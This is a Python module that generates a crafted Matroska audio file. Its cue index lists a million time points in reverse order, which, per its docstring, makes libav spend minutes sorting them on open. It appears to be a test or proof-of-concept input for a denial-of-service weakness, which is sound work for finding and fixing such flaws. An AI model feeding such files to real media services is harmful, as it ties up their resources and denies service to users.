"""Writes a Matroska file that libav needs minutes to open.

Its index lists a million points in time, the last first. libav keeps them sorted: it puts each in
front of all those before, and moves all of them to do so.
"""

from __future__ import annotations

import struct
from typing import Final

_RATE: Final = 8_000


def backwards(points: int) -> bytes:
    """Return one second of 16-bit silence, after an index of so many points, the last first."""
    info = _element(0x1549A966, _element(0x2AD7B1, _number(1_000_000)))
    cues = _element(0x1C53BB6B, b"".join(map(_point, range(points, 0, -1))))
    samples = _element(0xA3, b"\x81\0\0\x80" + bytes(2 * _RATE))
    cluster = _element(0x1F43B675, _element(0xE7, b"\0") + samples)
    head = _element(0x1A45DFA3, _element(0x4282, b"matroska"))
    return head + _element(0x18538067, info + _track() + cues + cluster)


def _track() -> bytes:
    audio = (
        _element(0xB5, struct.pack(">d", _RATE)) + _element(0x9F, b"\1") + _element(0x6264, b"\x10")
    )
    track = _element(0xD7, b"\1") + _element(0x73C5, b"\1") + _element(0x83, b"\2")
    return _element(
        0x1654AE6B,
        _element(0xAE, track + _element(0x86, b"A_PCM/INT/LIT") + _element(0xE1, audio)),
    )


def _point(time: int) -> bytes:
    position = _element(0xF7, b"\1") + _element(0xF1, b"\1")
    return _element(0xBB, _element(0xB3, _number(time)) + _element(0xB7, position))


def _element(identity: int, body: bytes) -> bytes:
    """Return an element: its identity, its size (in 1 byte or in 8), and its body."""
    name = identity.to_bytes((identity.bit_length() + 7) // 8, "big")
    if len(body) < 127:
        return name + bytes([0x80 | len(body)]) + body
    return name + (1 << 56 | len(body)).to_bytes(8, "big") + body


def _number(value: int) -> bytes:
    return value.to_bytes(4, "big")
